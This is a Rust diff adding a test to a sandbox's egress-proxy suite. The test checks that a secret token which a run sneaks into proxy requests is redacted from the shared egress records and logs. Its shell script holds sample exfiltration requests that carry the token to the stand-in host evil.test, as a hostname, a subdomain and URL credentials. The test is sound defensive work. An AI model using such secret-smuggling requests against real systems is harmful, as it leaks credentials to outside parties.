@@ -6,10 +6,11 @@ use std::time::Instant;
 
 use nix::sys::signal::{self, Signal};
 use nix::unistd::Pid;
-use orch_sandbox::egress::Verdict;
+use orch_sandbox::Secrets;
+use orch_sandbox::egress::{EgressRecord, Verdict};
 use orch_sandbox::exit_record::Outcome;
 use orch_sandbox::log::{ControlEvent, Record};
-use orch_sandbox::spec::Phase;
+use orch_sandbox::spec::{Phase, SecretDelivery, SecretSpec};
 
 use crate::bench::{PROBE_INSIDE, WAIT, sh};
 use crate::egress::{PROXY, Transparent, World, egress, policy};
@@ -147,4 +148,37 @@ fn n23_a_flood_hurts_nobody_else() {
     assert!(field("VmRSS:") < 64 << 10, "{status}");
     gate.open("");
     assert_eq!(run.wait().outcome, Outcome::Succeeded, "{}", run.stderr());
+}
+
+/// S3: what a run asks for can be a secret, by accident or not; the log that everybody may read does not say it.
+#[test]
+fn s3_what_is_asked_for_tells_no_secret() {
+    const TOKEN: &str = "Tok3nOfThe-Run.42";
+    let Some(world) = World::new() else { return };
+    let talk = |request: &str| {
+        format!("{PROBE_INSIDE} talk {PROXY} \">{request} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\" '=end' || exit 1; ")
+    };
+    let script = [
+        talk("CONNECT $TOKEN:443"),
+        talk("CONNECT $(echo $TOKEN | tr A-Z a-z).evil.test:443"),
+        talk("GET http://user:$TOKEN@good.test:8080/"),
+        talk("CONNECT evil.test:443"),
+    ];
+    let mut run = world.bench.run("asks", vec![sh("main", Phase::Main, &script.concat())]);
+    run.spec.egress = policy(Transparent::No);
+    run.spec.secrets = vec![SecretSpec { name: "token".into(), delivery: SecretDelivery::Env("TOKEN".into()) }];
+    let mut secrets = Secrets::new();
+    secrets.insert("token", TOKEN.into()).unwrap();
+    world.bench.start_with(&run, &secrets);
+    let record = run.wait();
+    assert_eq!(record.outcome, Outcome::Succeeded, "{}", run.stderr());
+    let records = egress(&run);
+    let asked = |host: &str| records.iter().any(|record| record.host.as_ref().is_some_and(|one| one.as_str() == host));
+    assert!(asked("[secret token]") && asked("evil.test"), "{records:?}");
+    assert!(records.iter().filter(|record| record.host.is_some()).count() >= 4, "{records:?}");
+    let told = |record: &EgressRecord| format!("{record}").to_ascii_lowercase().contains(&TOKEN.to_ascii_lowercase());
+    assert!(!records.iter().any(told), "{records:?}");
+    // As it was written, it is in nothing that stays.
+    let log = fs::read(orch_sandbox::run_dir::log_path(&run.dir)).unwrap();
+    assert!(!log.windows(TOKEN.len()).any(|window| window == TOKEN.as_bytes()));
 }
